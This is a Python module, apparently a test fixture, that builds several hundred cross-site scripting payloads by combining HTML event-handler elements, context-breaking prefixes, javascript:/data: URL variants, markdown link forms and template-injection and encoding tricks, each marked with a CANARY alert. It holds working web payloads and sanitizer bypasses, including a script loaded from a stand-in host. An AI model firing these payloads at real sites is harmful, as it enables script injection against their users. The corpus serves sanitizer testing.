"""More than four hundred attempts to become code: every way in, out of every place words stand.

Each one carries the word CANARY, so that it is recognised wherever it comes out.
"""

from itertools import product

CANARY = "CANARY"
X = f"alert('{CANARY}')"
ELEMENTS = (
    f"<script>{X}</script>", f"<ScRiPt src=//canary.example/{CANARY}.js></sCrIpT>",
    f"<img src={CANARY} onerror={X}>", f"<IMG\tSRC={CANARY}\nONERROR\n=\t{X}>",
    f"<svg/onload={X}>", f"<svg><animate onbegin={X} attributeName=x>",
    f"<svg><a xlink:href=javascript:{X}><text>x</text></a></svg>", f"<body onload={X}>",
    f"<iframe src=javascript:{X}></iframe>", f"<iframe srcdoc='<script>{X}</script>'></iframe>",
    f"<object data=javascript:{X}></object>", f"<embed src=javascript:{X}>",
    f"<a href=javascript:{X} onfocus={X} autofocus tabindex=0>x</a>",
    f"<form action=javascript:{X}><button formaction=javascript:{X}>x</button></form>",
    f"<details open ontoggle={X}>x</details>", f"<video><source onerror={X}></video>",
    f"<input autofocus onfocus={X}>", f"<select autofocus onfocus={X}></select>",
    f"<math><mi//xlink:href='data:x,<script>{X}</script>'>", f"<marquee onstart={X}>x</marquee>",
    f"<style>@import 'javascript:{X}';*{{x:expression({X})}}</style>",
    f"<link rel=stylesheet href=javascript:{X}>", f"<base href=//canary.example/{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{X}'>", f"<x onclick={X} {CANARY}>",
    f"<noscript><p title='</noscript><img src=x onerror={X}>'>", f"<!--{CANARY}--!><b onclick={X}>",
    f"<template><script>{X}</script></template>", f"<b style=background:url({CANARY})>x</b>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={X}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={X}>'>", f"<p {CANARY}=1 class=x id=main>",
)  # fmt: skip
# What closes the place the words stand in: an attribute, a title, a text area, a comment.
BREAKERS = (
    "", '">', "'>", " x=", "--!>", "]]>", "</title>", "</textarea></option>", "</script>",
    "</style>", "\\'>\\\">", "&quot;&gt;", "\u2028</a>",
)  # fmt: skip
URLS = (
    f"javascript:{X}", f"JaVaScRiPt:{X}", f"java\tscript:{X}", f"\x01javascript:{X}",
    f"javascript&colon;{X}", f"&#106;avascript:{X}", f"javascript://%0a{X}", f"vbscript:{X}",
    f"data:text/html,<script>{X}</script>", f"data:text/html;base64,{CANARY}", f"//x/{CANARY}",
    f'https://x.example/"onmouseover="{X}', f"https://x.example/'onmouseover='{X}//",
    f"https://x.example/`{CANARY}`", f"blob:https://{CANARY}", f"file:///{CANARY}",
)  # fmt: skip
LINKS = ("{0}", "[x]({0})", "<{0}>", "![x]({0})", "[x][y]\n\n[y]: {0}", '[x](<{0}> "\'>")')
TEMPLATES = (
    "{{{{ 7*7 }}}}{0}", "${{7*7}}{0}", "<%= 7*7 %>{0}", "#{{7*7}}{0}", "{{% raw %}}{0}",
    "@hana\"onclick={0}", "@<i>{0}", "`{0}`<b>", "```html\n<b onclick={0}>", "&lt;b&gt;{0}",
    "\u202e<b onclick={0}>", "<\u0000b onclick={0}>", "\uff1cscript\uff1e{0}",
    "+ADw-script+AD4-{0}",
)  # fmt: skip
PAYLOADS = (
    *(breaker + element for element, breaker in product(ELEMENTS, BREAKERS)),
    *(link.format(url) for link, url in product(LINKS, URLS)),
    *(template.format(X) for template in TEMPLATES),
)


def portions(size: int) -> list[tuple[str, ...]]:
    """All of them, so many at a time."""
    return [PAYLOADS[place : place + size] for place in range(0, len(PAYLOADS), size)]
